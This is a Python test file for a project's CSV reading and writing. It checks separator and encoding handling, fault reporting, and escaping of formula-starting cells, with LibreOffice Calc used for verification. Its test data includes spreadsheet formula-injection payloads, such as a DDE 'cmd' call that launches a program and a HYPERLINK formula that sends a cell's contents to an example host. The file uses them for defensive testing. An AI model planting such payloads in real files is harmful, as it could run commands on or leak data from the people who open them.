"""One reader of lists: whatever a spreadsheet does to a file, every list of ours takes it."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import unicodedata
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from campaign import csv_files
from campaign.csv_files import CsvError, CsvLimits, harmless, unquoted
from campaign.desk.content import addressee_table
from campaign.desk.draft_snapshot import DraftSnapshot
from campaign.editions.drafts import Draft, FileVersion
from campaign.letters import senders
from campaign.paper import lists
from campaign.paper.transcription import NAME, RowEntry
from tests.minimal import FILES
from tests.tools import ROOT, needed

DAY = date(2026, 11, 24)
NOW = datetime(2026, 11, 24, 12, tzinfo=UTC)


def letters(data: bytes) -> list[str]:
    return [row.cells["name"] for row in senders.rows_of(io.BytesIO(data), "list.csv")]


def signatures(data: bytes) -> list[str]:
    def checked(given: dict[str, str]) -> RowEntry:
        return RowEntry(NAME, given["name"], country=given["country"])

    rows, problems = lists.read(data, DAY, checked)
    assert problems == []
    return [row.typed.name for row in rows]


def offices(data: bytes) -> list[str]:
    versions = {path: FileVersion(1, path, text, "", NOW, "") for path, text in FILES.items()}
    draft = DraftSnapshot("trees", Draft(versions), None)
    files, problems = addressee_table.changed_files(draft, data)
    assert problems == []
    table = list(addressee_table.rows(files))
    return [row[table[0].index("title.en")] for row in table[1:] if row[0] == "mayor"]


#: Each reader with the two headings of its list, and a first cell where it is not the text.
READERS: dict[str, tuple[Callable[[bytes], list[str]], str, str, str]] = {
    "letters": (letters, "name", "country", "FR"),
    "signatures": (signatures, "name", "country", "FR"),
    "offices": (offices, "title.en", "key", "mayor"),
}

TEXT = "Zoé Қасым"


def written(first: str, second: str, value: str, delimiter: str = ",") -> str:
    return f"{first}{delimiter}{second}\n{TEXT}{delimiter}{value}\n"


INPUTS: dict[str, Callable[[str, str, str], bytes]] = {
    "commas": lambda *cells: written(*cells).encode(),
    "semicolons": lambda *cells: written(*cells, ";").encode(),
    "tabs": lambda *cells: written(*cells, "\t").encode(),
    "byte order mark": lambda *cells: written(*cells).encode("utf-8-sig"),
    "sep=;": lambda *cells: ("sep=;\n" + written(*cells, ";")).encode(),
    "SEP=| and CRLF": lambda *cells: ("SEP=|\r\n" + written(*cells, "|").replace("\n", "\r\n")).encode(),
    "byte order mark and sep": lambda *cells: ("sep=;\n" + written(*cells, ";")).encode("utf-8-sig"),
    "UTF-16, commas": lambda *cells: written(*cells).encode("utf-16"),
    "UTF-16, tabs": lambda *cells: written(*cells, "\t").encode("utf-16"),
    "UTF-16, big-endian": lambda *cells: ("\ufeff" + written(*cells, "\t")).encode("utf-16-be"),
    "old Macs' line ends": lambda *cells: written(*cells, ";").replace("\n", "\r").encode(),
    "quotes": lambda *cells: written(*(f'"{cell}"' for cell in cells), ";").encode(),
    "a text as a formula": lambda *cells: written(*cells).replace(TEXT, f'"=""{TEXT}"""').encode(),
    "empty rows": lambda *cells: written(*cells).replace("\n", "\n,\n\n").encode(),
}


@pytest.mark.parametrize("name", INPUTS)
@pytest.mark.parametrize("reader", READERS)
def test_every_list_takes_what_any_spreadsheet_writes(reader: str, name: str) -> None:
    read, *cells = READERS[reader]
    assert read(INPUTS[name](*cells)) == [TEXT]


SMALL = CsvLimits(1_000, 3, 20)


def rows(data: bytes, limits: CsvLimits = SMALL, **options: bool) -> list[list[str]]:
    with csv_files.opened(io.BytesIO(data), limits, {"a", "b"}.__contains__, **options) as table:
        return [table.heading, *(cells for _number, cells in table.rows)]


@pytest.mark.parametrize(
    ("data", "fault"),
    [
        (b"a,b\n" + b"x,y\n" * 1_000, ("bytes", 0, "")),
        (b"a,b\n" + b"x,y\n" * 4, ("rows", 5, "")),
        (b"a,b\nx,y\nx," + b"y" * 21, ("cell", 3, "b")),
        (b"a,b\nx,y,z," + b"y" * 21, ("cell", 2, "")),
        (b"a,b\n\nx,\xe9\n", ("encoding", 3, "b")),
        (b"\xe9,b\n", ("encoding", 1, "\udce9")),
        ("a,b\nx,y\n".encode("utf-16")[:-1], ("encoding", 2, "")),
    ],
)
def test_a_fault_has_a_reason_a_row_and_a_column(data: bytes, fault: tuple[str, int, str]) -> None:
    with pytest.raises(CsvError) as raised:
        rows(data)
    assert (raised.value.reason, raised.value.row, raised.value.column) == fault


@pytest.mark.security(50)
def test_a_line_and_a_cell_without_end_are_faults_before_they_are_kept() -> None:
    limits = CsvLimits(10_000_000, 10)
    for data in (b"a" * 30_000, b"a,b\nx," + b"y" * 30_000, b'a,b\n"' + b"y\n" * 30_000):
        with pytest.raises(CsvError, match="cell"):
            rows(data, limits)


def test_bytes_that_are_no_text_can_be_kept_for_the_caller_to_tell() -> None:
    assert rows(b"a,b\nx,\xe9\n", keep_damaged=True) == [["a", "b"], ["x", "\udce9"]]


def test_the_divider_is_the_one_that_finds_the_known_columns() -> None:
    assert rows(b"a;b;c,d,e,f\n")[0] == ["a", "b", "c,d,e,f"]
    assert rows(b"a\n") == [["a"]]
    assert rows(b"") == [[]]


# Writing

#: Every character that is, or that NFKC makes, the beginning of a formula.
STARTS = [
    chr(code) for code in range(0x110000) if unicodedata.normalize("NFKC", chr(code))[:1] in tuple("=+-@")
]

FORMULA = "=1+1"
CELLS = [
    *(f"{start}1+1" for start in STARTS),
    *(f"{space}{FORMULA}" for space in (" ", "\t", "\n", "\r", "\xa0", "\u3000", "\u200b", "\ufeff", "'", '"')),
    *(
        f"Ana{parting}{between}{FORMULA}{parting}x"
        for parting in (";", "\t", "\n", "\r\n", ",", "|", '";', '";"', "'", "; ;")
        for between in ("", " ", '"', '""', "'", ' "', "\n")
    ),
    'Ana;=HYPERLINK("http://example.org/?"&B1)', "Ana;=cmd|'/C calc'!A0;x", 'Ana;"=cmd|\'/C calc\'!A0;x', "=2+5;x",
    "-5", "+33 1 23", "@ana", "Ana", "", "Ana; Bo - Co", "- one\n- two", "Zoé Қасым",
]  # fmt: skip


@pytest.mark.parametrize("cell", CELLS)
def test_a_cell_that_was_written_is_read_as_it_was(cell: str) -> None:
    assert unquoted(harmless(cell)) == cell
    (written,) = csv.reader(io.StringIO(csv_files.table([[cell, "x"]])[1:], newline=""))
    assert [*map(unquoted, written)] == [cell, "x"]


@given(st.text("=+-@;\t\r\n'\" ,a＝\u200b\xa0", max_size=30))
@settings(max_examples=300, deadline=None)
def test_quotes_before_formulas_are_taken_away_again(cell: str) -> None:
    assert unquoted(harmless(cell)) == cell or cell.startswith('="')
    for part in re.split("[;\t\r\n]", harmless(cell)):
        assert not re.match('[\\s"]*[=+@＝-]', part)


def test_every_cell_is_in_quotes() -> None:
    assert csv_files.table([["name", "day"], ["Ana;x", ""]]) == '\ufeff"name","day"\r\n"Ana;x",""\r\n'


def test_no_other_module_writes_csv() -> None:
    writers = {path.name for path in (ROOT / "campaign").rglob("*.py") if "csv.writer(" in path.read_text()}
    assert writers == {"csv_files.py"}


SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_is_a_formula_in_a_spreadsheet_of_any_separator(separator: str, tmp_path: Path) -> None:
    rows = [
        [place, other, cell] for cell in CELLS for place, other in (("x", cell), (cell, "y"), (cell, cell))
    ]
    (tmp_path / "ours.csv").write_text(csv_files.table(rows), encoding="utf-8")
    (tmp_path / "plain.csv").write_text(
        f'"Ana",{FORMULA}\n"Ana";{FORMULA}\n"Ana"\t{FORMULA}\n', encoding="utf-8"
    )
    tables = by_calc(tmp_path, SEPARATORS[separator], "plain.csv", "ours.csv")
    assert "table:formula" in tables["plain.csv"], "Calc did not calculate: this test shows nothing"
    assert re.findall(r"table:formula=\"[^\"]*\"", tables["ours.csv"]) == []


def by_calc(folder: Path, separator: int, *names: str) -> dict[str, str]:
    """Lists as LibreOffice Calc reads them with a separator: flat XML, in which formulas are told apart."""
    office = needed("soffice", "libreoffice-calc-nogui")
    profile = f"-env:UserInstallation=file://{folder}/profile"
    reading = f"--infilter=CSV:{separator},34,76,1,,0,false,true,false,false,false,-1,true"
    command = [
        office,
        profile,
        "--headless",
        reading,
        "--convert-to",
        "fods",
        "--outdir",
        str(folder),
        *names,
    ]
    ran = subprocess.run(command, cwd=folder, capture_output=True, check=True, timeout=120)
    for name in names:
        assert (folder / name).with_suffix(".fods").exists(), (
            f"Calc is needed (libreoffice-calc-nogui): {ran.stderr!r}"
        )
    return {name: (folder / name).with_suffix(".fods").read_text("utf-8") for name in names}
